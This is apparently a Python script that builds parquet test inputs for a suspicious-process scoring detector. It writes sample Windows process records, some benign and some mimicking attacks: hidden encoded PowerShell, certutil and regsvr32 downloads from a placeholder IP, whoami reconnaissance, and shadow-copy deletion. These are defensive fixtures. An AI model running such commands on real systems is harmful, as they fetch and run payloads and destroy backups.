"""Writes the input tables of the golden cases (run inside an image with pandas, the repository
mounted at /w/repo and /work/shared at /w/shared:
python3 /w/repo/analytics/suspicious-process-scoring/tests/make_inputs.py)."""
import os
import shutil
import sys

import pandas as pd

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "../../../scripts/testdata"))
from kestrel_shape import as_kestrel_sends  # noqa: E402
SHARED = os.path.join(HERE, "../../../../shared/kestrel-testdata")

# name, binary_ref.name, parent_ref.name, command_line
WINDOWS = [
    ("powershell.exe", "powershell.exe", "WINWORD.EXE",
     "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    ("certutil.exe", "certutil.exe", "cmd.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe"),
    ("regsvr32.exe", "regsvr32.exe", "excel.exe",
     "regsvr32 /s /n /u /i:http://203.0.113.7/f.sct scrobj.dll"),
    ("cmd.exe", "cmd.exe", "w3wp.exe", "cmd.exe /c whoami"),
    ("vssadmin.exe", "vssadmin.exe", "cmd.exe", "vssadmin.exe delete shadows /all /quiet"),
    ("rundll32.exe", "rundll32.exe", "explorer.exe", "rundll32.exe shell32.dll,Control_RunDLL"),
    ("notepad.exe", "notepad.exe", "explorer.exe", "notepad.exe C:\\notes.txt"),
    ("whoami.exe", "whoami.exe", "cmd.exe", "whoami /all"),
]


def write(case, df):
    d = os.path.join(HERE, case, "input")
    os.makedirs(d, exist_ok=True)
    df.to_parquet(os.path.join(d, "0.parquet.gz"), index=False)


def windows():
    n = len(WINDOWS)
    return pd.DataFrame({
        "id": ["process--%08d-1111-4000-8000-000000000000" % i for i in range(n)],
        "type": ["process"] * n,
        "name": [w[0] for w in WINDOWS],
        "pid": [5000 + 4 * i for i in range(n)],
        "binary_ref.name": [w[1] for w in WINDOWS],
        "parent_ref.name": [w[2] for w in WINDOWS],
        "command_line": [w[3] for w in WINDOWS],
    })


def names_only():
    return pd.DataFrame({"id": ["process--n1", "process--n2", "process--n3", "process--n4"],
                         "type": ["process"] * 4,
                         "name": ["CERTUTIL.EXE", "notepad.exe", None, "C:\\x\\whoami.exe"]})


if __name__ == "__main__":
    for case, src in (("kestrel-procs", "procs.parquet.gz"),
                      ("bad-threshold", "procs.parquet.gz")):
        os.makedirs(os.path.join(HERE, case, "input"), exist_ok=True)
        shutil.copyfile(os.path.join(SHARED, src), os.path.join(HERE, case, "input/0.parquet.gz"))
    # Kestrel's own process table, as Kestrel 1.8 sends it (no bare x_contained_by_ref)
    write("kestrel-procs-nulls",
          as_kestrel_sends(pd.read_parquet(os.path.join(SHARED, "procs_python.parquet.gz"))))
    write("windows-threshold", windows())
    write("missing-columns", names_only())
